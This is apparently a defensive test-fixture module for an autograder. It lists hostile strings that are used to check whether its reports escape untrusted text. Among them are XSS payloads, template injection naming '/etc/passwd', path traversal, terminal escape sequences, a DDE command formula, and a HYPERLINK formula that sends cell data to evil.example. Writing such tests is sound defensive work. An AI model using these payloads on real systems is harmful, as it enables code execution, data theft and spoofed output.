"""Texts that have fooled a terminal, a browser, a spreadsheet or a renderer, and what is never let through."""

import re
from decimal import Decimal

from autograder.model import (
    Evidence,
    ExerciseReport,
    Finding,
    Outcome,
    Status,
    SubmissionReport,
    TestResult,
)

TEXTS = {
    # terminals
    "colour": "\x1b[31mred\x1b[0m",
    "clear_screen": "\x1b[2J\x1b[H\x1b[3J",
    "window_title": "\x1b]0;owned\x07",
    "terminal_link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "answer_back": "\x05\x1b[c\x1b[6n\x1bP$q\x1b\\",
    "c1_controls": "\x9b31m \x90 \x9d0;t\x9c \x85",
    "all_c0": "".join(map(chr, range(32))) + "\x7f",
    "overwrite": "0/5\r5/5 graded\x08\x08\x08",
    "fake_line": "x\nalice 5/5 graded\r\nAll passed",
    "vertical": "a\x0bb\x0cc\x1cd\x1ee",
    "rich_markup": "[red]x[/red] [bold] [link=http://evil.example]y[/link] :smile: [/]",
    # what Unicode can do
    "bidi_overrides": "\u202egnp.exe\u202c \u202a\u202b\u202d",
    "bidi_isolates": "\u2066x\u2069 \u2067y\u2068",
    "bidi_marks": "\u200e\u200f\u061c",
    "zero_width": "al\u200bice\u200c\u200d\u2060\ufeff\u00ad",
    "tags": "flag\U000e0041\U000e0042\U000e007f \U000e0001",
    "separators": "a\u2028b\u2029c",
    "blanks": "\u3164\u115f\u2800\uffa0x\u00a0\u2003\u1680",
    "combining_storm": "z" + "\u0300\u0301\u0489\u20dd" * 200,
    "combining_first": "\u0338\u0301start",
    "selectors": "a" + "\ufe0f\U000e0101" * 50,
    "lone_surrogates": "\ud800 \udfff \udc80",
    "private_and_unassigned": "\ue000 \U000f0000 \uffff \U000e0fff",
    "wide": "\u738b\u5c0f\u660e \uff37\uff49\uff44\uff45 \u30ab\u30bf",
    "emoji": "\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f \U0001f44d\U0001f3fd",
    "flag": "\U0001f1e9\U0001f1ea",
    "right_to_left": "\u05e9\u05dc\u05d5\u05dd 1 2 3 \u0645\u0631\u062d\u0628\u0627",
    "decomposed": "Ju\u0308rgen e\u0301",
    # browsers
    "script": "<script>document.title='owned'</script>",
    "handler": "\"'><img src=x onerror=document.title='owned'>",
    "closing": "</pre></section></bdi></body><h1>100 of 100",
    "comment": "<!-- --><!--",
    "cdata": "<![CDATA[ ]]> <?php ?>",
    "entities": "&lt;b&gt; &#60;script&#62; &amp &copy",
    "raw_text": "<textarea><title><style>*{display:none}</style><plaintext>",
    "svg": "<svg/onload=alert(1)><math><mtext></form>",
    "template": "{{ 7*7 }} {% include '/etc/passwd' %} {# #} ${7*7} #{7}",
    "address": "javascript:alert(1) data:text/html,<b>",
    # spreadsheets
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "formula_dde": "=cmd|' /C calc'!A0",
    "formula_plus": "+1+1",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(1,1)",
    "formula_tab": "\t=1+1",
    "formula_return": "\r=1+1",
    "formula_newline": "x\n=1+1",
    "formula_space": "  =1+1",
    "formula_full_width": "\uff1d1\uff0b1",
    "formula_quoted": "\"=1+1\"",
    "formula_other_separator": "x;=1+1;y|@SUM(1)|\"=2\";\"\"+1",
    "cells": "a,b\"c\",\"d;e\tf",
    # renderers of Markdown
    "link": "[click](http://evil.example) ![](http://evil.example/x.png) [a]: http://evil.example",
    "autolink": "<http://evil.example> http://evil.example www.evil.example a@evil.example",
    "mention": "@everyone @org/team #1 !2 GH-3 ~label %milestone 0123456789abcdef0123456789abcdef01234567",
    "backticks": "` `` ``` a `b`",
    "backtick_last": "x`",
    "backslash_last": "x\\",
    "bars": "a | b || c \\| d",
    "fence": "```\n</code>\n```html\n~~~\n<b>",
    "emphasis": "**x** _y_ ~~z~~ $a$ $$b$$ [^1] :smile:",
    "blocks": "# x\n\n> y\n\n- z\n\n---\n\n| a |\n|---|\n\n1. b\n\n<div>\n\n    c",
    "include": "::include{file=secrets.md}\n[[_TOC_]]\n/close",
    "front_matter": "---\ntitle: x\n---",
    # everywhere
    "empty": "",
    "spaces": "   ",
    "dots": "../../etc/passwd",
    "device": "con .txt",
    "long": "x" * 100_000,
    "long_wide": "\u738b" * 100_000,
    "many_lines": "line\n" * 50_000,
    "long_escapes": "\x1b" * 100_000,
}  # fmt: skip

NEVER = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f"
    "\u2028-\u202e\u2060-\u206f\u2800\u3164\ud800-\udfff\ue000-\uf8ff\ufeff\uffa0\ufff0-\ufffb\uffff"
    "\U000e0000-\U000e00ff\U000e01f0-\U0010ffff]|[\u0300-\u036f\u0489\u20d0-\u20ff]{5}"
)
"""What no text of anybody's leaves in an output for people, besides line ends (`\\r` is looked at apart for CSV)."""


def full_report(text: str, submission_id: str | None = None, graded: bool = True) -> SubmissionReport:
    """Return a report in which every text that may be somebody's is the given one."""
    test = TestResult(
        name=text,
        title=text,
        exercise="1",
        concept=text,
        outcome=Outcome.STUDENT_ERROR if graded else Outcome.GRADER_ERROR,
        score=Decimal(0),
        max_score=Decimal("2.5"),
        message=text,
        hint=text,
    )
    return SubmissionReport(
        id=text if submission_id is None else submission_id,
        status=Status.GRADED if graded else Status.NOT_GRADED,
        score=Decimal("2.50"),
        max_score=Decimal("5.0"),
        reason="" if graded else text,
        exercises=(
            ExerciseReport(
                id="1", title=text, score=Decimal("2.50"), max_score=Decimal("5.0"), tests=(test,)
            ),
        ),
        findings=(Finding(code=text, concept=text, exercise=text, line=3, message=text),),
        evidence=(Evidence(code=text, exercise=text, line=4, message=text),),
        notes=(text,),
    )
